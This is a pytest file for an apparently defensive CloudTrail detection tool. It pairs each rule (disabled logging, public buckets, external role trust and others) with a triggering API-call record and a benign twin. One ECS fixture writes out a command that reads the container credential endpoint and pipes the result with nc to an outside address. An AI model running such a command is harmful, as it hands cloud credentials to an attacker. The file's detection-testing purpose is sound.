"""Every CloudTrail rule of the table (data/cloudtrail_rules.yaml) with the call it catches and
a benign twin: the same kind of call, done the ordinary way, that must stay at low or below
and must not raise the rule."""

from __future__ import annotations

import json

import pytest
import yaml

from cloudtrail_builders import (ACCOUNT, OTHER_ACCOUNT, call, root, rules_of, run, user)
from tracehound.analyzers.cloud.cloudtrail_rules import RULES_FILE
from tracehound.model import SEVERITY_RANK

ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
READ_ONLY = "arn:aws:iam::aws:policy/ReadOnlyAccess"


def trust(principal) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"}]})


def bucket_policy(principal, condition=None) -> dict:
    statement = {"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject",
                 "Resource": "arn:aws:s3:::orders-data/*"}
    if condition:
        statement["Condition"] = condition
    return {"bucketName": "orders-data", "bucketPolicy": {"Version": "2012-10-17",
                                                          "Statement": [statement]}}


def lifecycle(bucket, days) -> dict:
    return {"bucketName": bucket, "LifecycleConfiguration": {"Rule": {
        "ID": "expire", "Status": "Enabled", "Expiration": {"Days": days}}}}


def ingress(cidr, port) -> dict:
    return {"groupId": "sg-0123", "ipProtocol": "tcp", "fromPort": port, "toPort": port,
            "cidrIp": cidr}


KMS_OTHER = f"arn:aws:kms:us-east-1:{OTHER_ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
KMS_OWN = f"arn:aws:kms:us-east-1:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"

# rule id -> (records that raise it, benign twin records)
CASES = {
    "TH-AWS-TRAIL-STOPPED": (
        [call("StopLogging", "cloudtrail", {"name": "org-trail"})],
        [call("StartLogging", "cloudtrail", {"name": "org-trail"})]),
    "TH-AWS-TRAIL-SELECTORS": (
        [call("PutEventSelectors", "cloudtrail", {"trailName": "org-trail", "eventSelectors": [
            {"readWriteType": "All", "includeManagementEvents": False}]})],
        [call("GetEventSelectors", "cloudtrail", {"trailName": "org-trail"}, read_only=True)]),
    "TH-AWS-TRAIL-BUCKET-LIFECYCLE": (
        [call("CreateTrail", "cloudtrail", {"name": "org-trail", "s3BucketName": "audit-logs"},
              at=0),
         call("PutBucketLifecycle", "s3", lifecycle("audit-logs", 1), at=60)],
        [call("CreateTrail", "cloudtrail", {"name": "org-trail", "s3BucketName": "audit-logs"},
              at=0),
         call("PutBucketLifecycle", "s3", lifecycle("build-cache", 30), at=60)]),
    "TH-AWS-BUCKET-SHORT-LIFECYCLE": (
        [call("PutBucketLifecycle", "s3", lifecycle("scratch", 1))],
        [call("PutBucketLifecycle", "s3", lifecycle("scratch", 365))]),
    "TH-AWS-FLOW-LOGS-DELETED": (
        [call("DeleteFlowLogs", "ec2", {"DeleteFlowLogsRequest": {"FlowLogId": {
            "content": "fl-0e17", "tag": 1}}})],
        [call("DescribeFlowLogs", "ec2", {}, read_only=True)]),
    "TH-AWS-DNS-LOGS-DELETED": (
        [call("DeleteResolverQueryLogConfig", "route53resolver",
              {"resolverQueryLogConfigId": "rqlc-1"})],
        [call("ListResolverQueryLogConfigs", "route53resolver", {}, read_only=True)]),
    "TH-AWS-GUARDDUTY-DISABLED": (
        [call("UpdateDetector", "guardduty", {"detectorId": "d1", "enable": False})],
        [call("UpdateDetector", "guardduty", {"detectorId": "d1", "enable": True,
                                               "findingPublishingFrequency": "SIX_HOURS"})]),
    "TH-AWS-GUARDDUTY-SUPPRESSED": (
        [call("CreateFilter", "guardduty", {"detectorId": "d1", "name": "quiet",
                                             "action": "ARCHIVE"})],
        [call("CreateFilter", "guardduty", {"detectorId": "d1", "name": "watch",
                                             "action": "NOOP"})]),
    "TH-AWS-CONFIG-STOPPED": (
        [call("StopConfigurationRecorder", "config", {"configurationRecorderName": "default"})],
        [call("StartConfigurationRecorder", "config", {"configurationRecorderName": "default"})]),
    "TH-AWS-LOGS-DELETED": (
        [call("DeleteLogGroup", "logs", {"logGroupName": "/vpc/flow"})],
        [call("CreateLogGroup", "logs", {"logGroupName": "/app/new"})]),
    "TH-AWS-ORG-LEAVE": (
        [call("LeaveOrganization", "organizations", None)],
        [call("DescribeOrganization", "organizations", None, read_only=True)]),
    "TH-AWS-SECURITYHUB-DISABLED": (
        [call("DisableSecurityHub", "securityhub", {})],
        [call("EnableSecurityHub", "securityhub", {})]),
    "TH-AWS-SECURITYHUB-SUPPRESSED": (
        [call("BatchUpdateFindings", "securityhub", {"FindingIdentifiers": [{"Id": "f1"}],
                                                      "Workflow": {"Status": "SUPPRESSED"}})],
        [call("BatchUpdateFindings", "securityhub", {"FindingIdentifiers": [{"Id": "f1"}],
                                                      "Workflow": {"Status": "RESOLVED"}})]),
    "TH-AWS-BEDROCK-GUARDRAIL-DELETED": (
        [call("DeleteGuardrail", "bedrock", {"guardrailIdentifier": "g1"})],
        [call("CreateGuardrail", "bedrock", {"name": "g2"})]),
    "TH-AWS-EBS-ENCRYPTION-DEFAULT-OFF": (
        [call("DisableEbsEncryptionByDefault", "ec2", {})],
        [call("EnableEbsEncryptionByDefault", "ec2", {})]),
    "TH-AWS-SIGNIN-TOKEN": (
        [call("GetSigninToken", "signin", {})],
        [call("ConsoleLogin", "signin", None, extra={"MFAUsed": "Yes"},
              response={"ConsoleLogin": "Success"})]),
    "TH-AWS-KEY-PAIR-IMPORTED": (
        [call("ImportKeyPair", "ec2", {"keyName": "k"})],
        [call("DescribeKeyPairs", "ec2", {}, read_only=True)]),
    "TH-AWS-REGION-ENABLED": (
        [call("EnableRegion", "account", {"RegionName": "af-south-1"})],
        [call("ListRegions", "account", {}, read_only=True)]),
    "TH-AWS-ECS-CREDENTIAL-ENDPOINT": (
        [call("RegisterTaskDefinition", "ecs", {"family": "t", "containerDefinitions": [{
            "name": "c", "command": ["sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_"
                                     "RELATIVE_URI | nc 198.51.100.9 80"]}]})],
        [call("RegisterTaskDefinition", "ecs", {"family": "t", "containerDefinitions": [{
            "name": "c", "command": ["python", "app.py"]}]})]),
    "TH-AWS-GLUE-PASSROLE": (
        [call("CreateDevEndpoint", "glue", {"endpointName": "e", "roleArn":
                                             f"arn:aws:iam::{ACCOUNT}:role/admin"})],
        [call("GetDevEndpoints", "glue", {}, read_only=True)]),
    "TH-AWS-DOMAIN-TRANSFER": (
        [call("TransferDomainToAnotherAwsAccount", "route53domains", {"domainName": "ex.com",
                                                                       "accountId": OTHER_ACCOUNT})],
        [call("RenewDomain", "route53domains", {"domainName": "ex.com"})]),
    "TH-AWS-ACCESS-KEY-OTHER-USER": (
        [call("CreateAccessKey", "iam", {"userName": "bob"})],
        [call("ListAccessKeys", "iam", {"userName": "bob"}, read_only=True)]),
    "TH-AWS-ACCESS-KEY-CREATED": (
        [call("CreateAccessKey", "iam", {"userName": "alice"})],
        # a rotation: the user's new key, then its old key deleted the same hour
        [call("CreateAccessKey", "iam", {"userName": "alice"}, at=0),
         call("DeleteAccessKey", "iam", {"userName": "alice", "accessKeyId": "AKIAOLD"},
              at=600)]),
    "TH-AWS-ACCESS-KEY-ROTATED": (
        [call("CreateAccessKey", "iam", None, at=0),
         call("UpdateAccessKey", "iam", {"accessKeyId": "AKIAOLD", "status": "Inactive"},
              at=300)],
        [call("UpdateAccessKey", "iam", {"accessKeyId": "AKIAOLD", "status": "Inactive"})]),
    "TH-AWS-IAM-USER-CREATED": (
        [call("CreateUser", "iam", {"userName": "backup-svc"})],
        [call("GetUser", "iam", {"userName": "backup-svc"}, read_only=True)]),
    "TH-AWS-LOGIN-PROFILE-CREATED": (
        [call("CreateLoginProfile", "iam", {"userName": "bob"})],
        [call("GetLoginProfile", "iam", {"userName": "bob"}, read_only=True)]),
    "TH-AWS-LOGIN-PROFILE-RESET": (
        [call("UpdateLoginProfile", "iam", {"userName": "bob"})],
        [call("ChangePassword", "iam", None)]),
    "TH-AWS-LOGIN-PROFILE-UPDATED": (
        [call("UpdateLoginProfile", "iam", {"userName": "alice"})],
        [call("ChangePassword", "iam", None)]),
    "TH-AWS-ADMIN-POLICY-ATTACHED": (
        [call("AttachUserPolicy", "iam", {"userName": "bob", "policyArn": ADMIN})],
        [call("DetachUserPolicy", "iam", {"userName": "bob", "policyArn": ADMIN})]),
    "TH-AWS-POLICY-ATTACHED": (
        [call("AttachRolePolicy", "iam", {"roleName": "ci", "policyArn": READ_ONLY})],
        [call("ListAttachedRolePolicies", "iam", {"roleName": "ci"}, read_only=True)]),
    "TH-AWS-ROLE-TRUST-EXTERNAL": (
        [call("UpdateAssumeRolePolicy", "iam", {"roleName": "deploy", "policyDocument": trust(
            {"AWS": f"arn:aws:iam::{OTHER_ACCOUNT}:root"})})],
        [call("UpdateAssumeRolePolicy", "iam", {"roleName": "deploy", "policyDocument": trust(
            {"Service": "ec2.amazonaws.com"})})]),
    "TH-AWS-ROLE-CREATED-TRUST-EXTERNAL": (
        [call("CreateRole", "iam", {"roleName": "helper", "assumeRolePolicyDocument": trust(
            {"AWS": f"arn:aws:iam::{OTHER_ACCOUNT}:root"})})],
        [call("CreateRole", "iam", {"roleName": "lambda-exec", "assumeRolePolicyDocument": trust(
            {"Service": "lambda.amazonaws.com"})})]),
    "TH-AWS-ROLE-TRUST-CHANGED": (
        [call("UpdateAssumeRolePolicy", "iam", {"roleName": "deploy", "policyDocument": trust(
            {"AWS": f"arn:aws:iam::{ACCOUNT}:role/ci"})})],
        [call("GetRole", "iam", {"roleName": "deploy"}, read_only=True)]),
    "TH-AWS-ROLES-ANYWHERE-ANCHOR": (
        [call("CreateTrustAnchor", "rolesanywhere", {"name": "ca", "enabled": True})],
        [call("ListTrustAnchors", "rolesanywhere", {}, read_only=True)]),
    "TH-AWS-ROLES-ANYWHERE-PROFILE": (
        [call("CreateProfile", "rolesanywhere", {"name": "p", "roleArns": [
            f"arn:aws:iam::{ACCOUNT}:role/admin"]})],
        [call("ListProfiles", "rolesanywhere", {}, read_only=True)]),
    "TH-AWS-FEDERATION-TOKEN": (
        [call("GetFederationToken", "sts", {"name": "x", "policy": json.dumps({
            "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})})],
        [call("GetFederationToken", "sts", {"name": "reports", "policy": json.dumps({
            "Statement": [{"Effect": "Allow", "Action": "s3:GetObject",
                           "Resource": "arn:aws:s3:::reports/*"}]})})]),
    "TH-AWS-IDP-CHANGED": (
        [call("CreateSAMLProvider", "iam", {"name": "okta-new"})],
        [call("ListSAMLProviders", "iam", {}, read_only=True)]),
    "TH-AWS-SSO-ASSIGNMENT": (
        [call("CreateAccountAssignment", "sso", {"principalId": "u-1", "permissionSetArn":
                                                  "arn:aws:sso:::permissionSet/ps-1"})],
        [call("ListAccountAssignments", "sso", {}, read_only=True)]),
    "TH-AWS-LAMBDA-PUBLIC-PERMISSION": (
        [call("AddPermission20150331v2", "lambda", {"functionName": "f", "principal": "*",
                                                     "action": "lambda:InvokeFunction"})],
        [call("GetPolicy20150331v2", "lambda", {"functionName": "f"}, read_only=True)]),
    "TH-AWS-LAMBDA-PERMISSION": (
        [call("AddPermission20150331v2", "lambda", {"functionName": "f", "principal":
                                                     f"arn:aws:iam::{OTHER_ACCOUNT}:root"})],
        [call("GetPolicy20150331v2", "lambda", {"functionName": "f"}, read_only=True)]),
    "TH-AWS-LAMBDA-URL-PUBLIC": (
        [call("CreateFunctionUrlConfig20211031", "lambda", {"functionName": "f",
                                                             "authType": "NONE"})],
        [call("CreateFunctionUrlConfig20211031", "lambda", {"functionName": "f",
                                                             "authType": "AWS_IAM"})]),
    "TH-AWS-LAMBDA-LAYER-EXTERNAL": (
        [call("UpdateFunctionConfiguration20150331v2", "lambda", {"functionName": "f", "layers": [
            f"arn:aws:lambda:us-east-1:{OTHER_ACCOUNT}:layer:ext:1"]})],
        [call("UpdateFunctionConfiguration20150331v2", "lambda", {"functionName": "f",
                                                                   "timeout": 30})]),
    "TH-AWS-LAMBDA-LAYER": (
        [call("UpdateFunctionConfiguration20150331v2", "lambda", {"functionName": "f", "layers": [
            f"arn:aws:lambda:us-east-1:{ACCOUNT}:layer:ext:1"]})],
        [call("UpdateFunctionConfiguration20150331v2", "lambda", {"functionName": "f",
                                                                   "memorySize": 512})]),
    "TH-AWS-LAMBDA-CHANGED": (
        [call("UpdateFunctionCode20150331v2", "lambda", {"functionName": "f"})],
        [call("GetFunction20150331v2", "lambda", {"functionName": "f"}, read_only=True)]),
    "TH-AWS-EC2-USER-DATA": (
        [call("ModifyInstanceAttribute", "ec2", {"instanceId": "i-1",
                                                  "userData": "<sensitiveDataRemoved>"})],
        [call("ModifyInstanceAttribute", "ec2", {"instanceId": "i-1",
                                                  "instanceType": {"value": "m5.large"}})]),
    "TH-AWS-SERIAL-CONSOLE-ENABLED": (
        [call("EnableSerialConsoleAccess", "ec2", {})],
        [call("GetSerialConsoleAccessStatus", "ec2", {}, read_only=True)]),
    "TH-AWS-SAGEMAKER-LIFECYCLE": (
        [call("UpdateNotebookInstance", "sagemaker", {"notebookInstanceName": "nb",
                                                       "lifecycleConfigName": "lc"})],
        [call("UpdateNotebookInstance", "sagemaker", {"notebookInstanceName": "nb",
                                                       "instanceType": "ml.t3.large"})]),
    "TH-AWS-UNUSUAL-INSTANCES": (
        [call("RunInstances", "ec2", {"instanceType": "p4d.24xlarge", "instancesSet": {
            "items": [{"imageId": "ami-1", "minCount": 1, "maxCount": 10}]}})],
        [call("RunInstances", "ec2", {"instanceType": "t3.micro", "instancesSet": {
            "items": [{"imageId": "ami-1", "minCount": 1, "maxCount": 1}]}})]),
    "TH-AWS-BEDROCK-MODEL-ACCESS": (
        [call("PutUseCaseForModelAccess", "bedrock", {})],
        [call("ListFoundationModels", "bedrock", {}, read_only=True)]),
    "TH-AWS-SES-RECON": (
        [call("GetAccountSendingEnabled", "ses", {}, at=0), call("GetSendQuota", "ses", {}, at=1),
         call("ListIdentities", "ses", {}, at=2)],
        [call("SendEmail", "ses", {"source": "noreply@example.com"})]),
    "TH-AWS-SHARED-PUBLIC": (
        [call("ModifySnapshotAttribute", "ec2", {"snapshotId": "snap-1", "createVolumePermission":
                                                  {"add": {"items": [{"group": "all"}]}}})],
        [call("ModifySnapshotAttribute", "ec2", {"snapshotId": "snap-1", "createVolumePermission":
                                                  {"remove": {"items": [{"group": "all"}]}}})]),
    "TH-AWS-SHARED-EXTERNAL": (
        [call("ModifyDBSnapshotAttribute", "rds", {"dBSnapshotIdentifier": "db1",
                                                    "attributeName": "restore",
                                                    "valuesToAdd": [OTHER_ACCOUNT]})],
        [call("ModifyDBSnapshotAttribute", "rds", {"dBSnapshotIdentifier": "db1",
                                                    "attributeName": "restore",
                                                    "valuesToAdd": [ACCOUNT]})]),
    "TH-AWS-BUCKET-POLICY-PUBLIC": (
        [call("PutBucketPolicy", "s3", bucket_policy("*"))],
        [call("PutBucketPolicy", "s3", bucket_policy("*", {"StringEquals": {
            "aws:SourceVpce": "vpce-1"}}))]),
    "TH-AWS-BUCKET-POLICY-EXTERNAL": (
        [call("PutBucketPolicy", "s3", bucket_policy(
            {"AWS": f"arn:aws:iam::{OTHER_ACCOUNT}:root"}))],
        [call("PutBucketPolicy", "s3", bucket_policy(
            {"AWS": f"arn:aws:iam::{ACCOUNT}:role/reports"}))]),
    "TH-AWS-BUCKET-ACL-PUBLIC": (
        [call("PutBucketAcl", "s3", {"bucketName": "b", "x-amz-acl": ["public-read"]})],
        [call("PutBucketAcl", "s3", {"bucketName": "b", "x-amz-acl": ["private"]})]),
    "TH-AWS-PUBLIC-ACCESS-BLOCK-REMOVED": (
        [call("DeleteBucketPublicAccessBlock", "s3", {"bucketName": "b"})],
        [call("PutBucketPublicAccessBlock", "s3", {"bucketName": "b"})]),
    "TH-AWS-BUCKET-REPLICATION-EXTERNAL": (
        [call("PutBucketReplication", "s3", {"bucketName": "b", "ReplicationConfiguration": {
            "Rule": {"Destination": {"Bucket": "arn:aws:s3:::x", "Account": OTHER_ACCOUNT}}}})],
        [call("GetBucketReplication", "s3", {"bucketName": "b"}, read_only=True)]),
    "TH-AWS-BUCKET-REPLICATION": (
        [call("PutBucketReplication", "s3", {"bucketName": "b", "ReplicationConfiguration": {
            "Rule": {"Destination": {"Bucket": "arn:aws:s3:::b-dr"}}}})],
        [call("GetBucketReplication", "s3", {"bucketName": "b"}, read_only=True)]),
    "TH-AWS-RDS-PUBLIC": (
        [call("ModifyDBInstance", "rds", {"dBInstanceIdentifier": "db",
                                           "publiclyAccessible": True})],
        [call("ModifyDBInstance", "rds", {"dBInstanceIdentifier": "db",
                                           "publiclyAccessible": False})]),
    "TH-AWS-RDS-MASTER-PASSWORD": (
        [call("ModifyDBInstance", "rds", {"dBInstanceIdentifier": "db",
                                           "masterUserPassword": "HIDDEN_DUE_TO_SECURITY_REASONS"})],
        [call("ModifyDBInstance", "rds", {"dBInstanceIdentifier": "db",
                                           "allocatedStorage": 200})]),
    "TH-AWS-EXPORT-TASK": (
        [call("CreateInstanceExportTask", "ec2", {"instanceId": "i-1"})],
        [call("DescribeExportTasks", "ec2", {}, read_only=True)]),
    "TH-AWS-SG-WORLD-ADMIN-PORT": (
        [call("AuthorizeSecurityGroupIngress", "ec2", ingress("0.0.0.0/0", 22))],
        [call("AuthorizeSecurityGroupIngress", "ec2", ingress("0.0.0.0/0", 443)),
         call("AuthorizeSecurityGroupIngress", "ec2", ingress("203.0.113.0/24", 22))]),
    "TH-AWS-S3-EXTERNAL-KMS": (
        [call("PutObject", "s3", {"bucketName": "b", "key": "k",
                                  "x-amz-server-side-encryption-aws-kms-key-id": KMS_OTHER})],
        [call("PutObject", "s3", {"bucketName": "b", "key": "k",
                                  "x-amz-server-side-encryption-aws-kms-key-id": KMS_OWN})]),
    "TH-AWS-VERSIONING-SUSPENDED": (
        [call("PutBucketVersioning", "s3", {"bucketName": "b", "VersioningConfiguration": {
            "Status": "Suspended"}})],
        [call("PutBucketVersioning", "s3", {"bucketName": "b", "VersioningConfiguration": {
            "Status": "Enabled"}})]),
    "TH-AWS-BUCKET-DELETED": (
        [call("DeleteBucket", "s3", {"bucketName": "old-b"})],
        [call("CreateBucket", "s3", {"bucketName": "new-b"})]),
    "TH-AWS-KMS-KEY-DELETION": (
        [call("ScheduleKeyDeletion", "kms", {"keyId": "k1", "pendingWindowInDays": 7})],
        [call("EnableKey", "kms", {"keyId": "k1"})]),
    "TH-AWS-CONSOLE-NO-MFA": (
        [call("ConsoleLogin", "signin", None, extra={"MFAUsed": "No"},
              response={"ConsoleLogin": "Success"})],
        [call("ConsoleLogin", "signin", None, extra={"MFAUsed": "Yes"},
              response={"ConsoleLogin": "Success"})]),
    "TH-AWS-ROOT-CONSOLE-LOGIN": (
        [call("ConsoleLogin", "signin", None, who=root(), extra={"MFAUsed": "Yes"},
              response={"ConsoleLogin": "Success"})],
        [call("ConsoleLogin", "signin", None, who=user(), extra={"MFAUsed": "Yes"},
              response={"ConsoleLogin": "Success"})]),
}


def table_rules() -> dict[str, dict]:
    document = yaml.safe_load(RULES_FILE.read_text(encoding="utf-8"))
    return {entry["rule"]: entry for entry in document["rules"]}


def test_every_rule_of_the_table_has_a_case_and_a_twin():
    assert sorted(CASES) == sorted(table_rules())


@pytest.mark.parametrize("rule", sorted(CASES))
def test_rule_fires_at_its_severity(rule):
    attack, _ = CASES[rule]
    severity = table_rules()[rule]["severity"]
    found = [f for f in run(attack) if f.rule == rule]
    assert [(f.rule, f.severity, f.category) for f in found] == [
        (rule, severity, table_rules()[rule]["category"])]
    assert found[0].refs and found[0].actor


@pytest.mark.parametrize("rule", sorted(CASES))
def test_benign_twin_stays_at_low_or_below(rule):
    _, twin = CASES[rule]
    found = run(twin)
    assert rule not in [f.rule for f in found]
    assert [r for r in rules_of(found) if SEVERITY_RANK[r[1]] > SEVERITY_RANK["low"]] == []


def test_refused_call_is_one_step_lower_and_says_why():
    found = run([call("DeleteFlowLogs", "ec2", {"flowLogIds": ["fl-1"]}, error="AccessDenied")])
    assert rules_of(found) == [("TH-AWS-FLOW-LOGS-DELETED", "medium")]
    assert found[0].statement.endswith("The request was refused (AccessDenied).")


def test_a_run_of_like_calls_is_one_grouped_finding_with_every_ref():
    deletes = [call("DeleteLogGroup", "logs", {"logGroupName": f"/app/{n}"}, at=n * 60)
               for n in range(6)]
    found = run(deletes)
    assert rules_of(found) == [("TH-AWS-LOGS-DELETED", "medium")]
    assert len(found[0].refs) == 6 and found[0].details["count"] == 6
    assert found[0].details["targets"] == [f"/app/{n}" for n in range(6)]
    # an hour and more later is a new run
    later = deletes + [call("DeleteLogGroup", "logs", {"logGroupName": "/app/x"}, at=9000)]
    assert [len(f.refs) for f in run(later)] == [6, 1]


def test_grouping_by_object_keeps_different_objects_apart():
    shares = [call("ModifySnapshotAttribute", "ec2", {"snapshotId": f"snap-{n}",
                   "createVolumePermission": {"add": {"items": [{"userId": OTHER_ACCOUNT}]}}},
                   at=n) for n in range(3)]
    found = run(shares)
    assert [(f.rule, f.target) for f in found] == [
        ("TH-AWS-SHARED-EXTERNAL", f"snap-{n}") for n in range(3)]


def test_no_rule_reads_the_user_agent():
    text = RULES_FILE.read_text(encoding="utf-8")
    assert "user_agent" not in text and "userAgent" not in text
    tool = call("StopLogging", "cloudtrail", {"name": "t"}, agent="stratus-red-team_1234")
    assert rules_of(run([tool])) == [("TH-AWS-TRAIL-STOPPED", "high")]
